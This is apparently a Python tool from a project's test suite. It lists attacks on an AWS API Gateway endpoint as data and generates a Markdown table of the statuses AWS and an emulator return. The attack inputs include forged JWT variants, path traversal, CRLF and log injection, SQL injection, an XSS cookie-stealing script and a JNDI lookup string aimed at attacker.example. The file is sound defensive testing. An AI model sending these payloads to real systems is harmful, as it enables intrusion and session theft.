"""Attacks on the API as data: the request, the status AWS documents, and the status the embedded cloud returns."""

from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, unquote

APIGATEWAY = "https://docs.aws.amazon.com/apigateway/latest/developerguide"
SOURCES = {
    "gateway responses": f"{APIGATEWAY}/supported-gateway-response-types.html",
    "401 from an authorizer": "https://repost.aws/knowledge-center/api-gateway-cognito-401-unauthorized",
    "important notes": f"{APIGATEWAY}/api-gateway-known-issues.html",
    "our handler": "../handlers/query.py",
}
UNDOCUMENTED = "not documented"
VICTIM = "victim@example.com"


@dataclass(frozen=True, kw_only=True)
class Attack:
    """A request that must return no data of another user."""

    what: str
    aws: str
    """The status that AWS documents, or its words where it documents no status."""
    source: str
    """The page that documents it: a key of SOURCES."""
    here: int
    """The status that the embedded cloud returns."""
    difference: str = ""
    """Why `here` differs from `aws`; empty if and only if they are equal."""
    token: str = "valid"  # noqa: S105 (a name, not a token)
    """A key of `forgery.FORGERIES`."""
    method: str = "GET"
    target: bytes = b"/users/" + quote(VICTIM).encode() + b"/services"
    """The path of the request below the stage, as it is sent."""
    headers: tuple[bytes, ...] = ()
    reaches_handler: bool = False

    @property
    def user_id(self) -> str:
        """The id in the path, decoded once."""
        return unquote(self.target.split(b"/")[2].decode()) if self.target.count(b"/") > 1 else ""


def _path_of(user_id: str) -> bytes:
    """Return the path of a user, encoded as the API documents it."""
    return f"/users/{quote(user_id, safe='')}/services".encode()


def _invalid_token(
    token: str, aws: str = "401", source: str = "401 from an authorizer", difference: str = ""
) -> Attack:
    return Attack(what=f"token: {token}", aws=aws, source=source, here=401, difference=difference, token=token)


def _unknown_route(what: str, method: str = "GET", target: bytes = Attack.target) -> Attack:
    return Attack(what=what, aws="403", source="gateway responses", here=403, method=method, target=target)


def _reads(what: str, user_id: str, *, here: int = 200) -> Attack:
    """Read the services of an id that no user has: no services, or an error for an invalid id."""
    return Attack(
        what=f"user id: {what}",
        aws=str(here),
        source="our handler",
        here=here,
        target=_path_of(user_id),
        reaches_handler=True,
    )


PAGE = Path(__file__).parents[1] / "docs" / "attacks.md"
HEADING = """# Attacks on the API

<!-- Generated from tools/attacks.py by: python -m tools.attacks -->

`tests/e2e/test_attacks.py` sends each attack to a deployed stack. The table shows the status that AWS documents and
the status that the embedded cloud returns. For every response the test also checks that it holds data of no user
except the requested one, that an error repeats nothing of the request, and that nothing internal is shown. It checks
that requests rejected by API Gateway never reach the function, that the table is unchanged, and that the function's
log holds neither ids nor forged lines.

Where the source is our handler, AWS documents nothing: API Gateway passes the path on and the function decides. The
statuses are as the sources describe them; no request of this table was sent to AWS.

| attack | AWS | source | embedded cloud | difference |
|---|---|---|---|---|
"""
NOT_UTF8 = b"/users/%ff%fe/services"
ATTACKS = (
    _invalid_token("none"),
    _invalid_token("garbage"),
    _invalid_token("truncated"),
    _invalid_token("without its signature"),
    _invalid_token("with one bit flipped in the signature"),
    _invalid_token("with other claims under its signature"),
    _invalid_token("unsigned (alg=none)"),
    _invalid_token("signed with the public key (alg=HS256)"),
    _invalid_token("signed with a key of the attacker's (alg=RS256)"),
    _invalid_token("expired"),
    _invalid_token("of another pool"),
    _invalid_token("an id token"),
    _invalid_token(
        "of another scope",
        aws="401 or 403",
        source="gateway responses",
        difference="AWS documents both for an authorizer that denies; the request is rejected either way.",
    ),
    _unknown_route("the root", target=b"/"),
    _unknown_route("all users", target=b"/users"),
    _unknown_route("a user, without services", target=b"/users/victim"),
    _unknown_route("below the services", target=b"/users/victim/services/x"),
    _unknown_route("POST", "POST"),
    _unknown_route("PUT", "PUT"),
    _unknown_route("DELETE", "DELETE"),
    _unknown_route("PATCH", "PATCH"),
    _unknown_route("OPTIONS", "OPTIONS"),
    _unknown_route("HEAD", "HEAD"),
    _unknown_route("dots: /users/x/../victim/services", target=b"/users/x/../victim%40example.com/services"),
    _unknown_route(
        "dots, encoded, as segments: /users/x/%2e%2e/victim/services",
        target=b"/users/x/%2e%2e/victim%40example.com/services",
    ),
    Attack(
        what="a method in X-HTTP-Method-Override",
        aws="403, as for the other method",
        source="important notes",
        here=200,
        difference="The emulator does not override methods.",
        headers=(b"X-HTTP-Method-Override: DELETE",),
        target=_path_of("nobody"),
        reaches_handler=True,
    ),
    _reads("an encoded slash", "x/../../" + VICTIM),
    _reads("an encoded slash, encoded twice", "x%2f" + VICTIM),
    _reads("dots alone", ".."),
    _reads("an encoded NUL", VICTIM + "\0", here=400),
    _reads("an encoded line break (CRLF injection)", VICTIM + "\r\nSet-Cookie: stolen=yes", here=400),
    _reads("a forged log line", 'x\n{"level":"ERROR","message":"forged"}', here=400),
    _reads("look-alike letters", "vict\u0456m@example.com"),
    _reads("a right-to-left override", "\u202e" + VICTIM, here=400),
    _reads("a trailing blank", VICTIM + " "),
    _reads("256 characters", "x" * 256, here=400),
    _reads("255 characters of four bytes", "\U0001f600" * 255),
    _reads("a DynamoDB expression", "x OR attribute_exists(user_id) #n :v"),
    _reads("SQL", "' OR '1'='1' --"),
    _reads("HTML", "<script>alert(document.cookie)</script>"),
    _reads("a template", "${jndi:ldap://attacker.example/a}{{7*7}}"),
    Attack(
        what="user id: letters, not encoded",
        aws=UNDOCUMENTED,
        source="important notes",
        here=400,
        difference="Only data of another user or of the inside would be wrong.",
        target="/users/vict\u0456m/services".encode(),
    ),
    Attack(
        what="user id: a NUL, not encoded",
        aws=UNDOCUMENTED,
        source="important notes",
        here=400,
        difference="As above.",
        target=b"/users/victim\0/services",
    ),
    _reads("12,000 characters", "x" * 12_000, here=400),
    Attack(what="user id: not UTF-8", aws="400", source="our handler", here=400, target=NOT_UTF8, reaches_handler=True),
    Attack(
        what="user id: blank",
        aws="400",
        source="our handler",
        here=400,
        target=b"/users/%20/services",
        reaches_handler=True,
    ),
)


def render() -> str:
    """Return the page as Markdown."""
    rows = [
        f"| {attack.what.replace('|', chr(92) + '|')} | {attack.aws} | [{attack.source}]({SOURCES[attack.source]}) "
        f"| {attack.here} | {attack.difference or 'none'} |"
        for attack in ATTACKS
    ]
    return HEADING + "\n".join(rows) + "\n"


if __name__ == "__main__":
    PAGE.write_text(render())
